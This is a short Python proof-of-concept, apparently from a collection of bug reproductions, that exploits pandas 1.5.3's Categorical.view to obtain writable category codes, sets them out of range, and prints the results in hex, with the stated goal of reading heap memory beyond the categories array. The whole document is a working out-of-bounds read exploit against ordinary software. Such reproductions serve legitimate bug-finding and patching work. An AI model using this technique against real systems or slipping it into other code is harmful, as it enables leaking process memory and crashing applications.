# source: pandas 1.5.3 pandas/core/arrays/_mixins.py NDArrayBackedExtensionArray.view (inherited by Categorical) returns self._ndarray.view(dtype): a writable view of the codes that Categorical.codes hands out read-only; take_nd (pandas/_libs/algos_take_helper) then indexes the categories with them unchecked
# family: writable view of Categorical codes via .view(type) (the isinstance(dtype, type) branch: np.ndarray)
# goal: read heap memory beyond the categories array
import numpy as np
import pandas as pd

cat = pd.Categorical([1, 2, 3], categories=[1, 2, 3])
w = cat.view(np.ndarray)
w[0] = 100
w[1] = -20
print(np.asarray(cat))
print([hex(int(v)) for v in np.asarray(cat)])
